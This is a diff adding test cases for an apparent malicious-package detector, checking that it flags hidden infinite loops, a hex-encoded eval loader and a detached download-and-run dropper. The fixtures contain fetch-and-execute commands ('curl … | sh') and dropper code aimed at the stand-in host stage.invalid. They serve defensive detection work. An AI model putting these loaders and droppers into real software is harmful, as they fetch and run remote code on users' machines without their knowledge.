@@ -170,3 +170,69 @@ test('a condition that asks for nothing at all stops no rule', async () => {
   const code = `if (String() || Number()) require('child_process').exec('curl -s http://stage.invalid/x | sh');`;
   expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
 });
+
+describe('a loop without an end', () => {
+  const loop = "for (let i = 1; i < Infinity; i++) console.log('on and on');";
+
+  test.each([
+    ['in a getter', `({ get go() { ${loop} } }).go;`],
+    ['in what is put into a text', `JSON.stringify({ toJSON() { ${loop} } });`],
+    ['in what decides on instances', `0 instanceof { [Symbol.hasInstance]() { ${loop} } };`],
+    ['out of a list of tasks', `for (const tasks = [() => { ${loop} }]; tasks.length > 0; ) tasks.shift()();`],
+    [
+      'in a module of a bundle',
+      `(() => { var modules = { 1(module) { ${loop} } }, known = {};\nfunction load(id) { var module = known[id] = { exports: {} }; modules[id](module); return module.exports; }\nload(1); })();`,
+    ],
+  ])('runs as soon as the file is loaded, %s', async (_, code) => {
+    expect(await saidOf({ 'index.js': code })).toContain('halts-its-importer/prints');
+  });
+
+  test('that is handed out runs when somebody calls it', async () => {
+    expect(await saidOf({ 'index.js': `module.exports = { get go() { ${loop} } };` })).toEqual([]);
+  });
+});
+
+describe('the files that lie beside the code', () => {
+  const decoded = "eval(Buffer.from(require('./part.js').text, 'hex').toString());";
+  const text = Buffer.from("require('child_process').exec('curl -s https://stage.invalid/i | sh')").toString('hex');
+
+  test('are found by whoever looks through their folder', async () => {
+    const index = `const name = require('fs').readdirSync(__dirname).find(one => one.startsWith('load'));\nrequire('./' + name);`;
+    const files = { 'index.js': index, 'loader.js': decoded, 'part.js': `exports.text = '${text}';` };
+    expect(await saidOf(files)).toContain('runs-harmful-command/download-run');
+  });
+
+  test('are not those of the folder that a program is started in', async () => {
+    const index =
+      "const fs = require('fs');\nfor (const name of fs.readdirSync('./')) fs.writeFileSync('./' + name, fs.readFileSync('./' + name, 'utf8').trim());";
+    expect(await saidOf({ 'index.js': index })).not.toContain('destroys-files/overwrites');
+  });
+});
+
+describe('a download that is written and run', () => {
+  const dropper = (on: string, write: string): string => `
+    const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
+    const fetched = () => new Promise(done => https.get('https://stage.invalid/x', answer => {
+      const parts = [];
+      answer.${on}('data', part => parts.push(part));
+      answer.${on}('end', () => done(Buffer.concat(parts)));
+    }));
+    fetched().then(bytes => {
+      const file = path.join(os.tmpdir(), '.' + Math.random().toString(36).slice(2));
+      fs.writeFileSync${write};
+      spawn('/bin/sh', [file], { detached: true, stdio: 'ignore' });
+    });`;
+
+  test.each([
+    ['by bound methods of the answer', dropper('on.bind(answer)', '(file, bytes)')],
+    ['by a bound function', dropper('on', '.bind(fs, file, bytes)()')],
+    ['through call', dropper('on', '.call(fs, file, bytes)')],
+  ])('is one whose name nobody knows, %s', async (_, code) => {
+    expect(await saidOf({ 'index.js': code })).toContain('runs-dropped-file/unseen');
+  });
+
+  test('is none where another file is run', async () => {
+    const code = dropper('on', '.call(fs, file, bytes)').replace('[file]', "['-c', 'git status']");
+    expect(await saidOf({ 'index.js': code })).not.toContain('runs-dropped-file/unseen');
+  });
+});
